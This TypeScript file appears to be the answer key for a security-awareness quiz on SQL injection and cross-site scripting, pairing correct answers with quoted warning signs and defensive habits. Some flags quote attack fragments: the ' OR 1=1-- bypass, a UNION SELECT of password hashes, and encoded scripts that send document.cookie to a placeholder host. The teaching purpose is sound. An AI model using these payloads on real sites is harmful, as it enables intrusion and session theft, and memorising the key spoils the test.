import type { BankCaseKey } from './types';

export const WEB_ATTACK_KEYS: readonly BankCaseKey[] = [
  {
    id: 'sql-injection-01',
    answerId: 'b',
    legitimate: false,
    skill: 'build-secure',
    flags: [
      { quote: 'adds it straight into the SQL', why: 'Text pasted into a query can change what the query does.' },
      {
        quote: 'Nobody would type anything weird in a login box.',
        why: "Attackers type exactly that: ' OR 1=1-- logs in without a password.",
      },
    ],
    habit: 'Insist on parameterised queries: typed text must never become part of the SQL.',
  },
  {
    id: 'sql-injection-02',
    answerId: 'a',
    legitimate: false,
    skill: 'respond-fast',
    flags: [
      { quote: "' OR 1=1--", why: 'A classic injection test string.' },
      { quote: 'You have an error in your SQL syntax', why: 'The search text reached the database as code.' },
      { quote: 'Showing 4,812 customer records', why: 'The query now returns data it should not.' },
    ],
    habit: 'Treat a database error from user input as a security hole, and fix it with parameterised queries.',
  },
  {
    id: 'sql-injection-03',
    answerId: 'c',
    legitimate: true,
    skill: 'build-secure',
    flags: [
      { quote: 'every query uses parameters', why: 'Parameters keep data and code apart.' },
      {
        quote: 'Inputs are checked against what each field allows',
        why: 'Allow-list validation narrows what gets in.',
      },
      {
        quote: 'can only read and write its own tables',
        why: 'Least privilege limits the damage if something slips through.',
      },
    ],
    habit: 'Parameterised queries, allow-list validation and a least-privilege database user are the standard defense.',
  },
  {
    id: 'xss-01',
    answerId: 'b',
    legitimate: false,
    skill: 'inspect-link',
    flags: [
      { quote: 'deals@shopwise-offers.example', why: "The mail does not come from Shopwise's own domain." },
      {
        quote: '%3Cscript%20src%3D%2F%2Fcdn-stats.example%2Fs.js%3E',
        why: "An encoded script tag in the link would run someone else's code on the real site.",
      },
      {
        quote: 'You may need to sign in again.',
        why: 'The injected script can capture what you type on the real page.',
      },
    ],
    habit:
      "A real domain with a long encoded tail can still carry a script; reach offers by typing the site's address.",
  },
  {
    id: 'xss-02',
    answerId: 'b',
    legitimate: false,
    skill: 'respond-fast',
    flags: [
      { quote: 'onerror="fetch(', why: 'The "picture" runs code in every visitor\'s browser.' },
      { quote: 'document.cookie', why: "It sends visitors' session cookies to a stranger's server." },
    ],
    habit: 'Reject comments carrying code, and have the site escape what users type so it can never run.',
  },
  {
    id: 'xss-03',
    answerId: 'a',
    legitimate: true,
    skill: 'build-secure',
    flags: [
      {
        quote: 'escapes everything people type before showing it',
        why: 'Output encoding is the main defense against XSS.',
      },
      {
        quote: 'a Content-Security-Policy that only allows our own scripts',
        why: 'A CSP blocks injected scripts as a second layer.',
      },
    ],
    habit: 'Escape user text on output and add a content security policy: layered defenses stop XSS.',
  },
  {
    id: 'sql-injection-04',
    answerId: 'c',
    legitimate: true,
    skill: 'build-secure',
    flags: [
      {
        quote: 'security@cartpress.example',
        why: 'The notice comes from the maker of your shop software, on its own domain.',
      },
      {
        quote: 'We have seen attempts to use it.',
        why: 'A flaw already under attack needs the fix now, not at the next big release.',
      },
      {
        quote: 'Nothing needs downloading from this email.',
        why: 'It sends you to the update button in your own admin panel.',
      },
    ],
    habit: 'Apply security updates to your shop software as soon as they come out, through its own update screen.',
  },
  {
    id: 'sql-injection-05',
    answerId: 'a',
    legitimate: false,
    skill: 'build-secure',
    flags: [
      {
        quote: 'I now strip the words SELECT, DROP and OR',
        why: 'Word filters are easy to get round (sElEcT, comments, encodings) and break honest searches such as "orange".',
      },
      {
        quote: 'The queries themselves are unchanged.',
        why: 'The text still becomes part of the SQL: the hole is still open.',
      },
    ],
    habit:
      'Fix SQL injection at the root: parameterised queries keep what users type out of the SQL code, whatever words it contains.',
  },
  {
    id: 'sql-injection-06',
    answerId: 'b',
    legitimate: false,
    skill: 'respond-fast',
    flags: [
      {
        quote: 'UNION SELECT email, password_hash FROM customers--',
        why: "Someone pulled your customers' emails and password hashes through the search box.",
      },
      { quote: '→ 200, 2.3 MB', why: 'The huge replies show the data really left: this is a breach, not an attempt.' },
      {
        quote: 'A normal search reply is about 20 KB.',
        why: 'Comparing with normal traffic shows how much was taken.',
      },
    ],
    habit:
      'Treat stolen customer data as a breach: fix the hole, keep the logs, reset passwords, and notify the Information Regulator and customers as POPIA requires.',
  },
  {
    id: 'xss-04',
    answerId: 'c',
    legitimate: false,
    skill: 'inspect-link',
    flags: [
      {
        quote: '%3Cscript%3Efetch(%27https%3A%2F%2Fgrab.example',
        why: 'An encoded script in the link would run on your own shop and send away what it finds.',
      },
      {
        quote: 'document.cookie',
        why: 'It targets your admin session: opening the link while signed in could hand over your shop.',
      },
      {
        quote: 'Can you click my link and see what I mean?',
        why: 'A request to click, aimed at the one person who is signed in as admin.',
      },
    ],
    habit:
      'Read a link before you open it, even one to your own site; a script in the address is an attack, so have the page fixed instead.',
  },
  {
    id: 'xss-05',
    answerId: 'b',
    legitimate: false,
    skill: 'build-secure',
    flags: [
      {
        quote: 'I put it in with innerHTML',
        why: 'innerHTML turns text into page code: a "name" with a script in it would run for that member and anyone who sees it.',
      },
      {
        quote: 'which anyone can fill in',
        why: 'Anything a stranger can type must be treated as data, never as HTML.',
      },
    ],
    habit:
      'Show what users type as text (textContent, or escaping), never as HTML; a length limit does not stop a short script.',
  },
  {
    id: 'xss-06',
    answerId: 'b',
    legitimate: true,
    skill: 'recognise-genuine',
    flags: [
      {
        quote: "That's the site escaping what people type, on purpose.",
        why: 'Showing tags as text is the XSS defense doing its job.',
      },
      {
        quote: 'a small, safe bold and italics button',
        why: 'A limited, safe formatting option gives members what they want without running their HTML.',
      },
    ],
    habit:
      'Keep escaping on for everything people type; offer formatting through a safe, limited option, never raw HTML.',
  },
  {
    id: 'sql-injection-07',
    answerId: 'a',
    legitimate: true,
    skill: 'build-secure',
    flags: [
      {
        quote: 'the surname goes in separately as a parameter',
        why: 'With a parameter the database never reads the typed text as SQL, quotes included.',
      },
      {
        quote: "names like O'Brien or D'Almeida",
        why: 'Stripping quotes would damage real names and add nothing a parameter does not already do.',
      },
    ],
    habit:
      'Parameterised queries are the fix for SQL injection; extra home-made stripping or escaping breaks data without adding safety.',
  },
  {
    id: 'sql-injection-08',
    answerId: 'c',
    legitimate: false,
    skill: 'build-secure',
    flags: [
      {
        quote: 'ORDER BY ${sort}, where sort comes from the address',
        why: 'Text from the address goes straight into the SQL.',
      },
      {
        quote: 'I strip out quotes and semicolons first',
        why: 'An injection in ORDER BY needs neither quotes nor semicolons.',
      },
    ],
    habit:
      'Where a value cannot be a parameter, map it to a fixed allow-list of known column names; never filter your way to safety.',
  },
  {
    id: 'xss-07',
    answerId: 'b',
    legitimate: false,
    skill: 'build-secure',
    flags: [
      {
        quote: 'my own regular expression deletes anything between <script> and </script>',
        why: 'Scripts also run from attributes like onerror or from javascript: links, which this misses.',
      },
      {
        quote: 'I can add <iframe> to the list too',
        why: 'A block-list is never finished; an allow-list of safe tags is.',
      },
    ],
    habit:
      'To allow some HTML, use a tested sanitiser with an allow-list of tags and attributes; a home-made block-list always misses one.',
  },
  {
    id: 'xss-08',
    answerId: 'a',
    legitimate: true,
    skill: 'build-secure',
    flags: [
      {
        quote: 'so page scripts cannot read it and other sites cannot send it',
        why: 'HttpOnly and SameSite cookies blunt stolen sessions and cross-site requests.',
      },
      {
        quote: 'only runs scripts from our own domain',
        why: 'A content policy stops injected scripts from running.',
      },
    ],
    habit:
      'Layer defences that cost members nothing; waiting for an attack or banning characters is neither safer nor kinder.',
  },
];
